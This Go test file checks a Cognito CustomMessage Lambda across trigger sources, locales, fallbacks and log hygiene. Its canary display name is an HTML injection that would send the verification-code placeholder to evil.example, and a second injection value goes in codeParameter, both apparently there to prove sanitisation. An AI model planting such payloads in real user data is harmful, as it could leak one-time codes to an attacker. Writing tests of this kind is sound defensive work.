package main

import (
	"bytes"
	"context"
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/cognito-triggers/suite/internal/harness"
	"github.com/cognito-triggers/suite/internal/testevent"
	"github.com/cognito-triggers/suite/pkg/message"
	"github.com/cognito-triggers/suite/pkg/triggers"
)

func TestMain(m *testing.M) { harness.Main(m) }

var fixtures = []string{
	"custommessage-signup.json",
	"custommessage-admin-create-user.json",
	"custommessage-resend-code.json",
	"custommessage-forgot-password.json",
	"custommessage-update-user-attribute.json",
	"custommessage-verify-user-attribute.json",
	"custommessage-authentication.json",
}

// Canaries: a hostile display name and an address that must reach neither
// a message nor a log line.
const (
	canaryName  = `<img src="https://evil.example/c?x={####}">Canaryname`
	canaryEmail = "canary.mailbox@example.com"
)

func env(customizeEmail string) map[string]string {
	return map[string]string{"APP_NAME": "Example App", "APP_URL": "https://app.example.com",
		"SUPPORT_EMAIL": "support@example.com", "DEFAULT_LOCALE": "en", "CUSTOMIZE_EMAIL": customizeEmail,
		"METRICS_NAMESPACE": "CognitoTriggersTest"}
}

func startFunction(t *testing.T, env map[string]string) *harness.Lambda {
	t.Helper()
	return harness.LambdaT(t, harness.LambdaOptions{Name: "custommessage", Bootstrap: harness.BuildT(t, "./functions/custommessage"), Env: env})
}

// withCanaries puts a hostile display name and an address into every
// attribute a message could be built from.
func withCanaries(locale string) []testevent.Edit {
	return []testevent.Edit{testevent.SetAttr("locale", locale), testevent.SetAttr("given_name", canaryName),
		testevent.SetAttr("name", canaryName), testevent.SetAttr("nickname", canaryName), testevent.SetAttr("email", canaryEmail)}
}

// response reads the three response fields; nil means JSON null.
type response struct {
	SMSMessage   *string `json:"smsMessage"`
	EmailMessage *string `json:"emailMessage"`
	EmailSubject *string `json:"emailSubject"`
}

func call(t *testing.T, fn *harness.Lambda, event []byte) (response, map[string]any) {
	t.Helper()
	res, err := fn.Invoke(context.Background(), event)
	if err != nil {
		t.Fatalf("Invoke: %v", err)
	}
	if res.Failed() {
		t.Fatalf("the function failed (%s: %s): a message must never be blocked", res.ErrorType, res.ErrorMessage)
	}
	var body struct {
		Response response `json:"response"`
	}
	if err := json.Unmarshal(res.Body, &body); err != nil {
		t.Fatalf("body is not JSON: %v\n%s", err, res.Body)
	}
	var whole map[string]any
	if err := json.Unmarshal(res.Body, &whole); err != nil {
		t.Fatalf("body is not a JSON object: %v", err)
	}
	return body.Response, whole
}

// asTyped is event as the function reads it, re-encoded: what an event
// that is answered unchanged comes back as (a member the typed event always
// writes appears even where event lacks it).
func asTyped(t *testing.T, event []byte) map[string]any {
	t.Helper()
	b, err := triggers.Encode(testevent.Decode[triggers.CustomMessage](t, event))
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	return m
}

// input is what Check needs to know about event: its source and placeholders.
func input(t *testing.T, event []byte) message.Input {
	t.Helper()
	ev := testevent.Decode[triggers.CustomMessage](t, event)
	in := message.Input{Source: ev.TriggerSource, CodeParameter: ev.Request.CodeParameter}
	if ev.Request.UsernameParameter != nil {
		in.UsernameParameter = *ev.Request.UsernameParameter
	}
	return in
}

// TestBinaryRendersEverySource: the real binary under the emulator answers
// each of the seven sources, in English and Chinese, with a message that
// passes Cognito's rules (message.Check: lengths, placeholders, characters)
// and with a hostile name and address in the attributes that show up in
// neither the message nor the logs.
func TestBinaryRendersEverySource(t *testing.T) {
	fn := startFunction(t, env("true"))
	for _, fx := range fixtures {
		for _, locale := range []string{"en", "zh-CN"} {
			event := testevent.Load(t, fx, withCanaries(locale)...)
			resp, _ := call(t, fn, event)
			if resp.SMSMessage == nil || resp.EmailMessage == nil || resp.EmailSubject == nil {
				t.Fatalf("%s %s: a field is null: %+v", fx, locale, resp)
			}
			out := message.Output{SMSMessage: *resp.SMSMessage, EmailMessage: *resp.EmailMessage, EmailSubject: *resp.EmailSubject}
			in := input(t, event)
			if err := message.Check(in, out); err != nil {
				t.Errorf("%s %s: %v", fx, locale, err)
			}
			if !strings.Contains(out.SMSMessage, "{####}") || !strings.Contains(out.EmailMessage, "{####}") {
				t.Errorf("%s %s: code placeholder missing", fx, locale)
			}
			admin := in.Source == triggers.SourceMessageAdminCreateUser
			for field, s := range map[string]string{"sms": out.SMSMessage, "email": out.EmailMessage, "subject": out.EmailSubject} {
				for _, bad := range []string{"<img", "evil", "Canaryname", "canary.mailbox"} {
					if strings.Contains(s, bad) {
						t.Errorf("%s %s: %s contains %q", fx, locale, field, bad)
					}
				}
				if strings.Contains(s, "{username}") != (admin && field != "subject") {
					t.Errorf("%s %s: %s has {username} = %v", fx, locale, field, !admin)
				}
			}
			if !strings.Contains(out.EmailMessage, `<html lang="`+locale+`">`) {
				t.Errorf("%s %s: email not in %s", fx, locale, locale)
			}
		}
	}
	checkLogs(t, fn, 2*len(fixtures), map[string]int{`"outcome":"rendered"`: 2 * len(fixtures)})
}

// TestBinarySMSOnly: with CUSTOMIZE_EMAIL=false (a pool on Cognito's
// default email account) the email fields stay null, so Cognito keeps the
// pool's email instead of failing the request; the SMS is still branded.
func TestBinarySMSOnly(t *testing.T) {
	fn := startFunction(t, env("false"))
	for _, fx := range fixtures {
		event := testevent.Raw(t, fx)
		resp, _ := call(t, fn, event)
		if resp.EmailMessage != nil || resp.EmailSubject != nil {
			t.Errorf("%s: email fields set without CUSTOMIZE_EMAIL", fx)
		}
		if resp.SMSMessage == nil || !strings.Contains(*resp.SMSMessage, "Example App") {
			t.Fatalf("%s: SMS not branded: %v", fx, resp.SMSMessage)
		}
		in := input(t, event)
		if err := message.Check(in, message.Output{SMSMessage: *resp.SMSMessage, EmailSubject: "x", EmailMessage: "code " + in.CodeParameter + " " + in.UsernameParameter}); err != nil {
			t.Errorf("%s: %v", fx, err)
		}
	}
	checkLogs(t, fn, len(fixtures), map[string]int{`"outcome":"rendered"`: len(fixtures)})
}

// TestBinaryFallsBackToThePoolMessage: an event whose message cannot be
// rendered (no codeParameter, an unsafe one, an invitation without
// usernameParameter, a request that does not decode) comes back unchanged,
// null response and all, so Cognito sends the pool's own message; the
// sign-up is not failed. A request that does not decode comes back byte
// for byte; the others as the typed event reads them.
func TestBinaryFallsBackToThePoolMessage(t *testing.T) {
	fn := startFunction(t, env("true"))
	cases := []struct {
		fixture string
		edit    testevent.Edit
		reason  string
	}{
		{"custommessage-signup.json", testevent.SetRequest("codeParameter", ""), "missing_code_parameter"},
		{"custommessage-forgot-password.json", testevent.SetRequest("codeParameter", nil), "missing_code_parameter"},
		{"custommessage-signup.json", testevent.SetRequest("codeParameter", `{"><img src=x>}`), "invalid_placeholder"},
		{"custommessage-admin-create-user.json", testevent.SetRequest("usernameParameter", testevent.Null), "invalid_placeholder"},
		{"custommessage-signup.json", testevent.SetRequest("codeParameter", 1234), "malformed_request"},
	}
	for _, c := range cases {
		event := testevent.Load(t, c.fixture, testevent.SetAttr("name", canaryName), testevent.SetAttr("email", canaryEmail), c.edit)
		res, err := fn.Invoke(context.Background(), event)
		if err != nil || res.Failed() {
			t.Fatalf("%s (%s): %v %s: a message must never be blocked", c.fixture, c.reason, err, res.ErrorMessage)
		}
		if c.reason == "malformed_request" {
			if !bytes.Equal(bytes.TrimSpace(res.Body), event) {
				t.Errorf("%s (%s): event changed:\n got %s\nwant %s", c.fixture, c.reason, res.Body, event)
			}
			continue
		}
		var got map[string]any
		if err := json.Unmarshal(res.Body, &got); err != nil {
			t.Fatalf("%s (%s): body is not a JSON object: %v", c.fixture, c.reason, err)
		}
		if diff := cmp.Diff(asTyped(t, event), got); diff != "" {
			t.Errorf("%s (%s): event changed (-want +got):\n%s", c.fixture, c.reason, diff)
		}
	}
	checkLogs(t, fn, len(cases), map[string]int{
		`"outcome":"default_message"`:       len(cases),
		`"reason":"missing_code_parameter"`: 2,
		`"reason":"invalid_placeholder"`:    2,
		`"reason":"malformed_request"`:      1,
		`"RenderFailures":1`:                len(cases),
	})
}

// checkLogs: every function log line is JSON and free of the canaries and
// of message text; at least one decision line per invocation; and each of
// counts' substrings occurs that often.
func checkLogs(t *testing.T, fn *harness.Lambda, invocations int, counts map[string]int) {
	t.Helper()
	lines := fn.FunctionLogLines()
	decisions := 0
	for _, line := range lines {
		if !json.Valid(line) {
			t.Errorf("log line is not JSON: %s", line)
		}
		for _, bad := range []string{"Canaryname", "canary.mailbox", "evil", "{####}", "Example App", `\u003c`} {
			if bytes.Contains(line, []byte(bad)) {
				t.Errorf("log line contains %q: %s", bad, line)
			}
		}
		if bytes.Contains(line, []byte(`"msg":"decision"`)) || bytes.Contains(line, []byte(`"message":"decision"`)) {
			decisions++
		}
	}
	if decisions != invocations {
		t.Errorf("%d decision lines for %d invocations:\n%s", decisions, invocations, bytes.Join(lines, []byte("\n")))
	}
	all := bytes.Join(lines, []byte("\n"))
	for s, n := range counts {
		if got := bytes.Count(all, []byte(s)); got != n {
			t.Errorf("%q occurs %d times in the log, want %d", s, got, n)
		}
	}
}

// TestBinaryConfigErrorFallsBack: a broken configuration (a broken
// template set, missing or invalid branding, a typo in a setting) does not
// fail the init, which would fail every sign-up until the next deploy. The
// cold start logs one error naming every problem, and every invocation
// answers with the event unchanged, so that Cognito sends the pool's own
// message, with reason config_error and RenderFailures 1 for the alarm.
func TestBinaryConfigErrorFallsBack(t *testing.T) {
	broken, err := filepath.Abs("../../pkg/message/testdata/custom-templates/broken")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name string
		env  map[string]string
		want []string
	}{
		{"broken template dir", func() map[string]string {
			e := env("true")
			e["MESSAGE_TEMPLATES_DIR"] = broken
			return e
		}(), []string{"MESSAGE_TEMPLATES_DIR", "en/forgot-password.sms.txt"}},
		{"nothing configured", map[string]string{"CUSTOMIZE_EMAIL": "maybe"}, []string{"APP_NAME", "APP_URL", "SUPPORT_EMAIL", "CUSTOMIZE_EMAIL"}},
		{"bad branding", func() map[string]string {
			e := env("true")
			e["APP_URL"] = "http://app.example.com"
			e["SUPPORT_EMAIL"] = "Support <support@example.com>"
			return e
		}(), []string{"SUPPORT_EMAIL", "APP_URL"}},
		{"app name too long for the SMS", func() map[string]string {
			e := env("true")
			e["APP_NAME"] = strings.Repeat("W", 47)
			return e
		}(), []string{"APP_NAME", "admin-create-user.sms.txt"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			fn := startFunction(t, c.env)
			for _, fx := range []string{"custommessage-signup.json", "custommessage-admin-create-user.json"} {
				event := testevent.Raw(t, fx)
				_, got := call(t, fn, event)
				if diff := cmp.Diff(asTyped(t, event), got); diff != "" {
					t.Errorf("%s: event changed (-want +got):\n%s", fx, diff)
				}
			}
			logs := string(fn.Logs())
			if !strings.Contains(logs, "invalid configuration: every message falls back to the pool's own") {
				t.Errorf("no configuration error in the cold-start log:\n%s", logs)
			}
			for _, w := range c.want {
				if !strings.Contains(logs, w) {
					t.Errorf("configuration error does not name %s:\n%s", w, logs)
				}
			}
			all := bytes.Join(fn.FunctionLogLines(), []byte("\n"))
			for s, n := range map[string]int{`"outcome":"default_message"`: 2, `"reason":"config_error"`: 2, `"RenderFailures":1`: 2} {
				if got := bytes.Count(all, []byte(s)); got != n {
					t.Errorf("%q occurs %d times in the log, want %d:\n%s", s, got, n, all)
				}
			}
		})
	}
}

// TestBinarySharedSettingFailsTheInit: a broken setting that every
// function shares (TRIGGER_BUDGET_MS) is invoke.Main's to judge, and it
// fails the cold start as for every trigger: the function cannot keep to
// its budget, so it does not answer at all.
func TestBinarySharedSettingFailsTheInit(t *testing.T) {
	e := env("true")
	e["TRIGGER_BUDGET_MS"] = "soon"
	fn := startFunction(t, e)
	res, err := fn.Invoke(context.Background(), testevent.Raw(t, "custommessage-signup.json"))
	if err == nil && !res.Failed() {
		t.Fatalf("a function with a broken shared setting answered: %s", res.Body)
	}
	if logs := string(fn.Logs()); !strings.Contains(logs, "cold start failed") || !strings.Contains(logs, "TRIGGER_BUDGET_MS") {
		t.Errorf("no cold-start error naming TRIGGER_BUDGET_MS in the log:\n%s", logs)
	}
}
